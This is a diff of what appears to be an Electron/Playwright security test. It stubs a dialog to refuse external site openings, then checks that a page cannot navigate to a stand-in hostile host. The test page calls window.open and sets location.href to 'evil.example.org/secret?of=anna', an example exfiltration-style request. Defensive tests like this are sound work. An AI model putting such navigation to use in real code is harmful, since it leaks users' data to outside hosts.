@@ -133,6 +133,10 @@ test('a link with a script in it shows nothing, and the log says that one came',
 });
 
 test('what a page may not do is written down, by its place alone', async ({ app, page }) => {
+  await app.evaluate(({ dialog }) => {
+    // Whoever is asked whether another site may open says no.
+    dialog.showMessageBox = async () => ({ response: 1, checkboxChecked: false });
+  });
   await page.evaluate(async () => {
     window.open('https://evil.example.org/secret?of=anna');
     location.href = 'https://evil.example.org/secret?of=anna';
